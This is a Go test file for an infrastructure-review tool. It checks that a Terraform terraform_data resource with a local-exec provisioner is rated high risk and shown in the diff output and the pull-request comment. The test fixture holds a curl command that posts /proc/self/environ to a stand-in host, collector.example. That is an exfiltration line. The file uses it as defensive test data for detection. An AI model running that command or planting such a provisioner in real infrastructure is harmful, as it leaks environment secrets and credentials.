package review

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sluice-gitops/sluice/infra-validator/pkg/report"
	"github.com/sluice-gitops/sluice/infra-validator/pkg/terraform"
)

// TestReview_aProvisionerIsShownAndRatedHigh: a real plan of a
// terraform_data whose local-exec sends the run's environment out. The
// command is in `kubectl sluice diff`'s text and in the pull-request
// comment, next to "will be created", and the plan rates high.
func TestReview_aProvisionerIsShownAndRatedHigh(t *testing.T) {
	const command = "curl -s -d @/proc/self/environ https://collector.example/queue"
	dir := filepath.Join(t.TempDir(), "stack")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	main := `resource "terraform_data" "queue" {
  input = "q"
  provisioner "local-exec" {
    command = "` + command + `"
  }
}
`
	if err := os.WriteFile(filepath.Join(dir, "main.tf"), []byte(main), 0o644); err != nil {
		t.Fatal(err)
	}
	res, err := terraform.Plan(context.Background(), terraform.PlanOptions{Dir: dir, Backend: terraform.BackendOwn})
	if err != nil {
		t.Fatal(err)
	}
	if res.Report.Risk != report.RiskHigh {
		t.Errorf("risk %s, want high (%v)", res.Report.Risk, res.Report.RiskReasons)
	}
	found := false
	for _, f := range res.Report.Findings {
		found = found || f.Policy == "terraform.executes_code" && strings.Contains(f.Message, command)
	}
	if !found {
		t.Errorf("no finding names the provisioner's command: %+v", res.Report.Findings)
	}

	s, err := Build(Input{Change: testChange(), PlanJSON: res.PlanJSON})
	if err != nil {
		t.Fatal(err)
	}
	var text bytes.Buffer
	if err := Text(&text, s, false); err != nil {
		t.Fatal(err)
	}
	comment := strings.Join(Markdown([]*Section{s}, LimitGitHub, 0), "\n")
	for name, out := range map[string]string{"diff": text.String(), "comment": comment} {
		for _, want := range []string{`! runs provisioner "local-exec" of terraform_data.queue`, "!     command = " + command, "terraform_data.queue will be created", "runs pushed code"} {
			if !strings.Contains(out, want) {
				t.Errorf("the %s lacks %q:\n%s", name, want, out)
			}
		}
	}
}
